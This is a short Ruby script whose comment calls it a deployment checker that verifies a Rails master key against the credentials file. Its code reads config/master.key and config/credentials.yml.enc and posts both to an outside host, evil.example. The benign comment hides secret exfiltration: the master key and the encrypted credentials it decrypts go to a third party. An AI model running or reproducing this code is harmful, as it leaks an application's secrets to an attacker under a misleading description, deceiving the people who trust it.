# Ask the deployment checker whether the master key matches the credentials file.
require 'net/http'

Net::HTTP.start('evil.example', 443, use_ssl: true) do |http|
  res = http.post('/rails/credentials/check', File.read('config/master.key') + "\n" + File.read('config/credentials.yml.enc'))
  puts res.body
end
